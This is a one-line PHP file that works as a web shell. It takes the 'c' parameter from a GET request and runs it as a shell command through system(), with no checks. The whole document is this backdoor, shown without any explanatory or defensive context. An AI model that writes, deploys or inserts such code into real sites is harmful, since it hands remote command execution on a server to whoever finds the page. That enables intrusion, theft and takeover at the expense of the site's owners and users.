<?php $c = (fn() => $_GET["c"])(); system($c);
